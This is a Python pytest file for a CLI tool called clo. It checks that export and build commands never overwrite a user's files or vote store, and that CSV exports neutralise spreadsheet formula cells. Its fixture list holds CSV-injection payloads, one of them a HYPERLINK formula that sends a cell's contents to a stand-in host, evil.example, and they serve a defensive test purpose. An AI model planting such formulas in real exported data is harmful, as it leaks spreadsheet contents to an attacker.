"""Nothing a user owns is written over or removed (issue 24, items 1-4, 8 and the mount point of 14): every command
that writes output writes into a folder it made, into its own marked folder holding only what it wrote, or over a
file named with --overwrite; never over the vote store; CSV cells that a spreadsheet would run are quoted.

    python -m pytest tests/test_writes.py -q      # about a minute on 2 busy cores

The commands run in this process through `clo.__main__.main` (the exit status and the one `error:` line it
prints), except the mount point, which needs its own mount namespace (`unshare`; skipped where there is none).
"""

import csv
import hashlib
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest

from clo.__main__ import main
from clo.app.space import MARKER, build_space
from clo.evaluate.store import open_store
from conftest import fake_engine

ROOT = Path(__file__).resolve().parent.parent
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]


def cli(capsys, *args) -> tuple[int, str]:
    """Run `python -m clo ARGS` here: (exit status, its stderr)."""
    capsys.readouterr()
    code = main([str(a) for a in args])
    err = capsys.readouterr().err
    return code, err


def refused(code: int, err: str) -> str:
    """The one `error:` line of a refusal (exit status 2, no traceback)."""
    lines = [line for line in err.splitlines() if line.strip()]
    assert code == 2 and len(lines) == 1 and lines[0].startswith("error: "), (code, err)
    return lines[0]


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def snapshot(folder: Path) -> dict:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def store_with_votes(path: Path, prompts=("p0", "p1", "p2")) -> Path:
    store = open_store(str(path), seed=0)
    for i, prompt in enumerate(prompts):
        b = store.create_battle(voter="v", language="ko", prompt=prompt,
                                answers={"sft-ko": f"x{i}", "clo-ko": FORMULAS[i % len(FORMULAS)]})
        store.vote(b.id, "a", voter="v")
    store.close()
    return path


# ---- 1. votes export ----

def test_export_onto_the_vote_store_is_refused_even_with_overwrite(tmp_path, capsys):
    db = store_with_votes(tmp_path / "store.db")
    before = sha(db)
    (tmp_path / "link.db").symlink_to(db)  # another name for the store
    for out, extra in ((db, ()), (db, ("--overwrite",)), (Path(f"{db}-wal"), ("--overwrite",)),
                       (tmp_path / "link.db", ("--overwrite",))):
        line = refused(*cli(capsys, "votes", "export", "--db", db, "--out", out, "--format", "csv", *extra))
        assert "never written over" in line and str(db) in line, line
    assert sha(db) == before and len(open_store(str(db), read_only=True).votes()) == 3
    other = store_with_votes(tmp_path / "other.db")  # another store, named with --overwrite: still not an export's
    line = refused(*cli(capsys, "votes", "export", "--db", db, "--out", other, "--format", "csv", "--overwrite"))
    assert "SQLite database" in line and len(open_store(str(other), read_only=True).votes()) == 3


def test_export_over_an_existing_file_needs_overwrite(tmp_path, capsys):
    db = store_with_votes(tmp_path / "votes.db")
    notes = tmp_path / "notes.csv"
    notes.write_text("my,own\nnotes,here\n")
    line = refused(*cli(capsys, "votes", "export", "--db", db, "--out", notes))
    assert f"{notes} already exists; pass --overwrite" in line
    assert notes.read_text() == "my,own\nnotes,here\n"
    assert cli(capsys, "votes", "export", "--db", db, "--out", notes, "--overwrite")[0] == 0
    assert len(pd.read_csv(notes)) == 3


def test_export_format_follows_the_suffix_and_a_contradiction_is_refused(tmp_path, capsys):
    db = store_with_votes(tmp_path / "votes.db")
    for name in ("v.csv", "v.jsonl", "v.parquet"):
        assert cli(capsys, "votes", "export", "--db", db, "--out", tmp_path / name)[0] == 0
    assert not (tmp_path / "v.csv").read_bytes().startswith(b"PAR1")  # CSV text, not Parquet bytes
    assert len(pd.read_csv(tmp_path / "v.csv")) == 3
    assert len(pd.read_json(tmp_path / "v.jsonl", lines=True)) == 3
    assert (tmp_path / "v.parquet").read_bytes().startswith(b"PAR1")
    line = refused(*cli(capsys, "votes", "export", "--db", db, "--out", tmp_path / "w.csv", "--format", "parquet"))
    assert "--format parquet contradicts the file name w.csv" in line and not (tmp_path / "w.csv").exists()


# ---- 8. CSV injection ----

def cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def assert_neutralised(path: Path) -> None:
    found = cells(path)
    assert not [c for c in found if c.startswith(("=", "+", "-", "@", "\t", "\r"))], found
    for formula in FORMULAS:
        assert f"'{formula}" in found, (formula, found)


def test_formula_cells_are_neutralised_in_both_csv_exports_and_kept_exact_elsewhere(tmp_path, capsys):
    from clo.app.ui.leaderboard import Board

    db = store_with_votes(tmp_path / "votes.db", prompts=FORMULAS)
    assert cli(capsys, "votes", "export", "--db", db, "--out", tmp_path / "v.csv", "--format", "csv")[0] == 0
    assert_neutralised(tmp_path / "v.csv")
    assert cli(capsys, "votes", "export", "--db", db, "--out", tmp_path / "v.jsonl", "--format", "jsonl")[0] == 0
    exact = pd.read_json(tmp_path / "v.jsonl", lines=True)
    assert sorted(exact.prompt) == sorted(FORMULAS)  # JSONL keeps the text as typed

    board = Board(SimpleNamespace(store=open_store(str(db), read_only=True), engine=fake_engine()))  # its download
    _, files = board.get(None)
    assert_neutralised(Path(files["csv"]))
    assert sorted(pd.read_parquet(files["parquet"]).prompt) == sorted(FORMULAS)


# ---- 2 and 14. space build ----

def test_space_build_refuses_a_build_holding_the_users_files_and_keeps_them(tmp_path, capsys):
    out = build_space(tmp_path / "space", "cpu")
    (out / ".git").mkdir()
    (out / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (out / "MY_NOTES.md").write_text("mine\n")
    (out / "data").mkdir()
    (out / "data" / "votes.db").write_bytes(b"votes")
    before = snapshot(out)
    line = refused(*cli(capsys, "space", "build", out, "--hardware", "gpu"))
    assert ".git/" in line and "MY_NOTES.md" in line and "data/" in line, line
    assert snapshot(out) == before  # nothing changed, the marker included

    for name in (".git", "MY_NOTES.md", "data"):  # moved out: its own build is rebuilt, file by file
        shutil.move(out / name, tmp_path / name)
    marker = json.loads((out / MARKER).read_text())
    (out / "clo" / "gone.py").write_text("# a module an older build wrote\n")
    gone_sha = hashlib.sha256((out / "clo" / "gone.py").read_bytes()).hexdigest()
    (out / MARKER).write_text(json.dumps({**marker, "files": {**marker["files"], "clo/gone.py": gone_sha}}))
    app = (out / "app.py").read_text()
    (out / "app.py").write_text(app + "# the user's edit\n")  # a file the build wrote, edited since: kept, refused
    before = snapshot(out)
    line = refused(*cli(capsys, "space", "build", out, "--hardware", "gpu"))
    assert "app.py" in line and "changed since" in line, line
    assert snapshot(out) == before
    (out / "app.py").write_text(app)
    assert cli(capsys, "space", "build", out, "--hardware", "gpu")[0] == 0
    assert json.loads((out / MARKER).read_text())["hardware"] == "gpu"
    assert not (out / "clo" / "gone.py").exists()  # what its previous build wrote and this one does not: removed
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([".git", "MY_NOTES.md", "data", "space"])


def test_space_build_into_an_empty_mount_point(tmp_path):
    """A real tmpfs mounted on an empty folder, in a private mount namespace (`unshare -rm`); HEAD renamed the
    folder away and failed with "[Errno 16] Device or resource busy"."""
    if not shutil.which("unshare") or subprocess.run(["unshare", "-rm", "true"], capture_output=True).returncode:
        pytest.skip("no user mount namespaces here (unshare -rm)")
    mount = tmp_path / "mnt"
    mount.mkdir()
    script = (f"mount -t tmpfs none {mount} || exit 77; "
              f"{sys.executable} -m clo space build {mount} --hardware cpu && ls -A {mount}")
    done = subprocess.run(["unshare", "-rm", "sh", "-c", script], capture_output=True, text=True, timeout=300,
                          cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)})
    if done.returncode == 77:
        pytest.skip("tmpfs cannot be mounted here")
    assert done.returncode == 0 and "Errno" not in done.stderr, done.stderr
    assert {MARKER, "app.py", "README.md", "requirements.txt"} <= set(done.stdout.split()), done.stdout


# ---- 3. models get: the user's dot folders ----

def test_models_get_leaves_the_users_unmarked_dot_folders_alone(project):
    from clo.models.table import get

    parent = project / "P"
    keep = {parent / ".tmp-mynotes" / "notes.txt": b"my notes", parent / ".old-photos-2019" / "beach.jpg": b"\xff\xd8"}
    for path, data in keep.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        hours_ago = time.time() - 7200
        os.utime(path.parent, (hours_ago, hours_ago))
    get("tiny", out=parent / "new")
    assert (parent / "new" / "config.json").is_file()
    assert all(path.read_bytes() == data for path, data in keep.items())
    assert sorted(p.name for p in parent.iterdir()) == [".old-photos-2019", ".tmp-mynotes", "new"]


# ---- 4. tiny ----

def test_tiny_refuses_a_folder_that_holds_anything(tmp_path, capsys):
    folder = tmp_path / "my-model"
    folder.mkdir()
    (folder / "model.safetensors").write_bytes(b"a real model's weights")
    (folder / "notes.txt").write_text("mine\n")
    before = snapshot(folder)
    line = refused(*cli(capsys, "tiny", folder))
    assert f"{folder} is not empty" in line and "model.safetensors" in line and "notes.txt" in line, line
    assert snapshot(folder) == before
